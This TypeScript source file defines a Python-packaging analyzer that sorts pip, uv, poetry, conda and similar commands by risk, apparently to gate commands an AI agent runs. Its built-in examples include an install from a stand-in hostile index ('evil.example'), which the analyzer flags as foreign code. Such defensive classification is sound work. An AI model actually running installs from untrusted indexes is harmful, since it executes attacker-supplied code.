import type { Analyzer, Command, Finding, Scene, Word } from "../analyzer.ts";
import { combine, fileEffects, found, NOTHING } from "../effects.ts";
import { literal, type Options, parseOptions } from "../options.ts";
import {
  act,
  type Deed,
  deedTable,
  publishes,
  rehearses,
  runsForeignCode,
  wordsOf,
} from "../project/deeds.ts";
import { namedTask } from "../project/names.ts";
import { pythonTool } from "../project/registry-tools.ts";
import { isUsualRegistry, namesForeignIndex, pythonSource } from "../project/sources.ts";

export const analyzer: Analyzer = {
  name: "python-packages",
  title: "Python packaging",
  about:
    "pip, uv, poetry, pipenv, conda, pipx, hatch, pdm. Installing from the index is ordinary; from git, a web address or another index it is code from elsewhere. `run` and `exec` judge the command they start.",
  programs: wordsOf(`
    pip pip3 pip2 uv uvx poetry pipenv conda mamba micromamba pipx hatch pdm rye flit build
    pyproject-build virtualenv venv ensurepip pip-compile pip-sync pixi
  `),
  analyze(command, scene) {
    return (JUDGES.get(command.program) ?? pip)({ command, scene, args: command.args, by: command.source });
  },
  examples: [
    { run: "pip install -r requirements.txt", does: ["change python.packages pip install"], tier: 1 },
    {
      run: "pip install git+https://github.com/a/b",
      does: ["execute? foreign-code git+https://github.com/a/b @local"],
      tier: 2,
    },
    {
      run: "pip install --index-url https://evil.example/simple x",
      does: ["execute? foreign-code pip install --index-url https://evil.example/simple x @local"],
      tier: 2,
    },
    { run: "pip list", does: [], tier: 0 },
    { run: "uv sync", does: ["change python.packages uv sync"], tier: 1 },
    { run: "uv run pytest -q", does: ["execute? workspace-code pytest"], tier: 1 },
    { run: "uvx ruff check .", does: ["execute? workspace-code ruff"], tier: 1 },
    { run: "uvx some-unknown-tool", does: ["execute? foreign-code some-unknown-tool @local"], tier: 2 },
    { run: "uv publish", does: ["create pypi.version uv publish @production"], tier: 4 },
    { run: "poetry run pytest", does: ["execute? workspace-code pytest"], tier: 1 },
    { run: "conda env remove -n old", does: ["change python.environment conda env @local"], tier: 2 },
  ],
};

interface Request {
  readonly command: Command;
  readonly scene: Scene;
  readonly args: readonly Word[];
  readonly by: string;
}

const JUDGES: ReadonlyMap<string, (request: Request) => Finding> = new Map([
  ["uv", uv],
  ["uvx", (request: Request) => toolRun(request, request.args)],
  ["pipx", pipx],
  ["poetry", project],
  ["pdm", project],
  ["rye", project],
  ["hatch", project],
  ["flit", project],
  ["pipenv", project],
  ["pixi", project],
  ["conda", conda],
  ["mamba", conda],
  ["micromamba", conda],
  ["build", environment],
  ["pyproject-build", environment],
  ["virtualenv", environment],
  ["venv", environment],
  ["ensurepip", (request: Request) => change(request, "python.packages", "ensurepip")],
  ["pip-compile", (request: Request) => change(request, "file", "requirements.txt")],
  ["pip-sync", (request: Request) => change(request, "python.packages", "pip-sync")],
]);

function change({ scene, by }: Request, kind: string, name: string): Finding {
  return act("change", scene, { kind, name, by });
}

const PIP_VALUES = wordsOf(`
    -r --requirement -c --constraint -e --editable -t --target --prefix --root -i --index-url
    --extra-index-url -f --find-links --platform --python-version --implementation --abi
    --upgrade-strategy --progress-bar --timeout --retries --proxy --trusted-host --cache-dir --log
    -d --dest --src --python -p --only-binary --no-binary -w --wheel-dir --config-settings -C
    --report --index --default-index --exclude-newer --with --with-requirements --from --directory
    --project --package --extra --group --env-file --cert --client-cert --format --path --resolution
    -o --output-file --keyring-provider -b --overrides --global-option
  `);

const PIP_READS = new Set(
  wordsOf("list freeze show check search index inspect hash debug help tree completion"),
);

function pip(request: Request): Finding {
  const options = parseOptions(request.args, { values: PIP_VALUES });
  const [verb, ...operands] = options.operands;
  if (verb === undefined || PIP_READS.has(verb.text ?? "")) return NOTHING;
  if (verb.text === "install" || verb.text === "wheel" || verb.text === "download")
    return installs(request, options, operands, `pip ${verb.text}`);
  if (["uninstall", "compile", "sync", "lock"].includes(verb.text ?? ""))
    return change(request, "python.packages", `pip ${verb.text}`);
  const action = operands[0]?.text;
  if (verb.text === "cache")
    return action === "purge" || action === "remove" ? change(request, "cache", "pip cache") : NOTHING;
  if (verb.text === "config") {
    const reads = action === undefined || ["list", "get", "debug"].includes(action);
    return reads
      ? NOTHING
      : act("outside", request.scene, { kind: "pip.config", name: `pip config ${action}`, by: request.by });
  }
  return act("unknown", request.scene, { kind: "pip", name: `pip ${verb.source}`, by: request.by });
}

function installs(request: Request, options: Options, operands: readonly Word[], what: string): Finding {
  const { scene, by } = request;
  if (rehearses(options, "--dry-run")) return NOTHING;
  const indexes = options.values(
    "-i",
    "--index-url",
    "--extra-index-url",
    "--index",
    "--default-index",
    "-f",
    "--find-links",
  );
  const unusual = indexes.filter((word) => !isUsualRegistry(word) && !isLocalFolder(word, scene));
  if (unusual.length > 0) return runsForeignCode(scene, by, by);
  const wanted = [...operands, ...options.values("-e", "--editable", "--with", "--from")];
  const files = options
    .values("-r", "--requirement")
    .filter((word) => /^[a-z]+:\/\//i.test(word.text ?? word.prefix));
  const foreign = [...wanted, ...files].filter((word) =>
    ["foreign", "unknown"].includes(pythonSource(word, scene)),
  );
  if (foreign.length > 0) return combine(...foreign.map((word) => runsForeignCode(scene, word.source, by)));
  const name = wanted.map((word) => word.source).join(" ") || what;
  const target = options.value("-t", "--target", "--prefix", "--root", "-d", "--dest", "-w", "--wheel-dir");
  if (target && what !== "uv add")
    return found(fileEffects("change", target, scene, { recursive: true, by }));
  const system = options.has("--break-system-packages", "--system");
  return act(system ? "outside" : "change", scene, { kind: "python.packages", name, by });
}

function isLocalFolder(word: Word, scene: Scene): boolean {
  return (
    word.text !== undefined &&
    !/^[a-z]+:/i.test(word.text) &&
    pythonSource(literal(`./${word.text.replace(/^\.\//, "")}`), scene) === "workspace"
  );
}

const UV_DEEDS = deedTable({
  read: "tree help version export-none",
  change: "sync lock remove init venv build export format version",
});

function uv(request: Request): Finding {
  const { scene, by } = request;
  const options = parseOptions(request.args, { values: PIP_VALUES, stopAtOperand: true });
  const [verb, ...rest] = options.operands;
  const named = parseOptions(rest, { values: PIP_VALUES });
  if (verb === undefined) return NOTHING;
  switch (verb.text) {
    case undefined:
      return act("unknown", scene, { kind: "uv", name: by, by });
    case "run":
      return uvRun(request, rest);
    case "pip":
      return pip({ ...request, args: rest });
    case "add":
      return installs(request, named, named.operands, "uv add");
    case "tool":
      return tool(request, rest);
    case "publish":
      return rehearses(named, "--dry-run")
        ? NOTHING
        : publishes(
            scene,
            { kind: "pypi.version", name: "uv publish", by },
            named.value("--publish-url")?.text,
          );
    case "python":
    case "cache":
    case "self":
    case "auth":
      return uvOwn(request, verb.text, named.operands[0]?.text);
  }
  return act(UV_DEEDS.get(verb.text) ?? "unknown", scene, {
    kind: "python.packages",
    name: `uv ${verb.text}`,
    by,
  });
}

function uvOwn({ scene, by }: Request, verb: string, action: string | undefined): Finding {
  if (["list", "find", "dir", "pin", undefined, "version", "size"].includes(action)) {
    return action === "pin" ? act("change", scene, { kind: "file", name: ".python-version", by }) : NOTHING;
  }
  const deed: Deed = verb === "auth" ? "login" : verb === "cache" ? "change" : "outside";
  return act(deed, scene, {
    kind: verb === "cache" ? "cache" : "toolchain",
    name: `uv ${verb} ${action}`,
    by,
  });
}

/** `uv run [options] CMD`: a Python file, a module with `-m`, or a program of the environment. */
function uvRun(request: Request, rest: readonly Word[]): Finding {
  const { scene, by } = request;
  const options = parseOptions(rest, { values: [...PIP_VALUES, "-m", "--module"], stopAtOperand: true });
  const extra = options
    .values("--with", "-w")
    .filter((word) => ["foreign", "unknown"].includes(pythonSource(word, scene)));
  const foreign = combine(...extra.map((word) => runsForeignCode(scene, word.source, by)));
  const module = options.value("-m", "--module");
  if (module)
    return combine(foreign, scene.argv([literal("python"), literal("-m"), module, ...options.operands]));
  const [first] = options.operands;
  if (first === undefined)
    return combine(
      foreign,
      request.command.stdin.kind === "text" ? scene.code("python", request.command.stdin.text) : NOTHING,
    );
  if (/^[a-z]+:\/\//i.test(first.text ?? first.prefix)) return runsForeignCode(scene, first.source, by);
  if (/\.pyw?$/.test(first.text ?? first.suffix))
    return combine(foreign, scene.argv([literal("python"), ...options.operands]));
  return combine(foreign, scene.argv(options.operands));
}

function tool(request: Request, rest: readonly Word[]): Finding {
  const [action, ...words] = rest;
  if (action?.text === "run") return toolRun(request, words);
  if (action === undefined || ["list", "dir"].includes(action.text ?? "")) return NOTHING;
  return toolInstall(request, action.text ?? "", words);
}

/** `uvx NAME`, `uv tool run NAME`, `pipx run NAME`: a well-known tool, or code from elsewhere. */
function toolRun(request: Request, words: readonly Word[]): Finding {
  const { scene, by } = request;
  const options = parseOptions(words, {
    values: [...PIP_VALUES, "--spec", "--pip-args"],
    stopAtOperand: true,
  });
  const indexes = options.values("-i", "--index-url", "--extra-index-url", "--index", "--default-index");
  if (indexes.some((word) => !isUsualRegistry(word))) return runsForeignCode(scene, by, by);
  const from = options.value("--from", "--spec");
  const [name, ...rest] = options.operands;
  if (name === undefined) return NOTHING;
  const sources = [...options.values("--with"), from ?? name];
  const foreign = sources.filter((word) => pythonSource(word, scene) !== "registry");
  if (foreign.length > 0) return combine(...foreign.map((word) => runsForeignCode(scene, word.source, by)));
  const origin = pythonTool((from ?? name).text ?? "");
  const program = pythonTool(name.text ?? "") ?? (origin !== undefined ? name.text : undefined);
  if (origin === undefined || program === undefined) return runsForeignCode(scene, name.source, by);
  return scene.argv([literal(program), ...rest]);
}

function toolInstall({ scene, by }: Request, action: string, words: readonly Word[]): Finding {
  const { operands } = parseOptions(words, { values: PIP_VALUES });
  const foreign = operands.filter((word) => ["foreign", "unknown"].includes(pythonSource(word, scene)));
  if (foreign.length > 0) return combine(...foreign.map((word) => runsForeignCode(scene, word.source, by)));
  return act("outside", scene, {
    kind: "python.tool",
    name: `${action} ${operands.map((word) => word.source).join(" ")}`,
    by,
  });
}

function pipx(request: Request): Finding {
  const options = parseOptions(request.args, { values: ["--python", "--index-url"], stopAtOperand: true });
  const [verb, ...rest] = options.operands;
  if (verb?.text === "run") return toolRun(request, rest);
  if (verb === undefined || ["list", "environment", "completions", "help"].includes(verb.text ?? ""))
    return NOTHING;
  return toolInstall(request, `pipx ${verb.text ?? ""}`, rest);
}

const PROJECT_DEEDS = deedTable({
  read: "show list info check env-list outdated graph version search about completions export-list help search-deps verify where envs config-show dep tree status which",
  change:
    "install update lock add remove init new sync build export fix clean use import fmt create upgrade uninstall pin env venv cache plugin dep-show reinstall tool",
  outside: "self python toolchain global",
  code: "test shell-code fmt-check lint task",
});

/** poetry, pdm, rye, hatch, flit, pipenv, pixi: one verb each, `run` starts a command. */
function project(request: Request): Finding {
  const { scene, by, command } = request;
  const options = parseOptions(request.args, {
    values: ["-C", "--directory", "-P", "--project", "-e", "--env", "-p", "--python"],
    stopAtOperand: true,
  });
  const [verb, ...rest] = options.operands;
  const name = verb?.text;
  if (verb === undefined) return NOTHING;
  if (name === "run" || name === "exec") return runNested(request, rest);
  if (name === "publish" || name === "upload") {
    const named = parseOptions(rest, {
      values: ["-r", "--repository", "-u", "-p", "--username", "--password", "--cert"],
    });
    return rehearses(named, "--dry-run")
      ? NOTHING
      : publishes(
          scene,
          { kind: "pypi.version", name: `${command.program} publish`, by },
          named.value("--repository")?.text,
        );
  }
  if (name === "config" || name === "source") return configure(request, rest);
  if (name === "shell") return NOTHING;
  if (name === "add" || (name === "install" && command.program === "pipenv")) {
    const named = parseOptions(rest, { values: PIP_VALUES });
    return installs(request, named, named.operands, `${command.program} ${name}`);
  }
  return act(PROJECT_DEEDS.get(name ?? "") ?? "unknown", scene, {
    kind: "python.packages",
    name: `${command.program} ${verb.source}`,
    by,
  });
}

function configure({ scene, by, command }: Request, rest: readonly Word[]): Finding {
  const { operands, has } = parseOptions(rest, {});
  if (operands.length < 2 && !has("--unset")) return NOTHING;
  if (operands.slice(1).some(namesForeignIndex)) return runsForeignCode(scene, by, by);
  const deed: Deed = has("--local") || operands[0]?.text === "add" ? "change" : "outside";
  return act(deed, scene, { kind: "python.config", name: `${command.program} config`, by });
}

function runNested({ scene, by, command }: Request, rest: readonly Word[]): Finding {
  const { operands } = parseOptions(rest, {
    values: ["-e", "--env", "-p", "--environment", "--manifest-path"],
    stopAtOperand: true,
  });
  const [first] = operands;
  if (first === undefined) return NOTHING;
  const task = first.text !== undefined && /:/.test(first.text) && !first.text.includes("/");
  return task || command.program === "hatch" || command.program === "pixi"
    ? hatchRun(operands, scene, by, command.program)
    : scene.argv(operands);
}

/** hatch and pixi run a task of the project's configuration or a program; tasks go by name. */
function hatchRun(operands: readonly Word[], scene: Scene, by: string, program: string): Finding {
  const [first] = operands;
  const name = first?.text?.replace(/^.*:/, "") ?? "";
  const isProgram = /^(python\d?(\.\d+)?|pytest|bash|sh|pip|mypy|ruff)$/.test(name);
  return isProgram
    ? scene.argv([literal(name), ...operands.slice(1)])
    : namedTask(scene, `${program} run`, name, by);
}

const CONDA_READS = new Set(
  wordsOf(`
    list info search config doctor compare export activate deactivate init-show env notices help
    shell.posix package
  `),
);

function conda(request: Request): Finding {
  const { scene, by } = request;
  const options = parseOptions(request.args, {
    values: ["-n", "--name", "-p", "--prefix", "-c", "--channel", "-f", "--file", "--cwd"],
    stopAtOperand: true,
  });
  const [verb, ...rest] = options.operands;
  const name = verb?.text ?? "";
  const named = parseOptions(rest, {
    values: wordsOf("-n --name -p --prefix -c --channel -f --file --cwd --set --add --remove"),
    stopAtOperand: name === "run",
  });
  if (verb === undefined) return NOTHING;
  if (name === "run") return named.operands.length === 0 ? NOTHING : scene.argv(named.operands);
  if (name === "env" && ["remove", "delete"].includes(named.operands[0]?.text ?? ""))
    return act("outside", scene, { kind: "python.environment", name: "conda env", by });
  if (name === "env" && ["create", "update"].includes(named.operands[0]?.text ?? ""))
    return change(request, "python.environment", "conda env");
  if (
    name === "config" &&
    named.names.some((flag) => /^--(set|add|remove|append|prepend|remove-key)$/.test(flag))
  ) {
    return act("outside", scene, { kind: "python.config", name: "conda config", by });
  }
  if (name === "remove" && named.has("--all"))
    return act("outside", scene, { kind: "python.environment", name: "conda remove --all", by });
  if (name === "init") return act("control", scene, { kind: "file", name: "shell start file", by });
  if (CONDA_READS.has(name)) return NOTHING;
  const known = wordsOf(
    "install create update upgrade remove uninstall clean rename build repoquery",
  ).includes(name);
  return known
    ? change(request, "python.packages", `conda ${name}`)
    : act("unknown", scene, { kind: "conda", name: by, by });
}

function environment(request: Request): Finding {
  const { command, scene, by } = request;
  const { operands } = parseOptions(request.args, {
    values: ["-p", "--python", "--prompt", "-o", "--outdir", "-C"],
  });
  if (command.program.endsWith("build"))
    return act("code", scene, { kind: "python", name: "python -m build", by });
  return found(operands.flatMap((word) => fileEffects("create", word, scene, { recursive: true, by })));
}
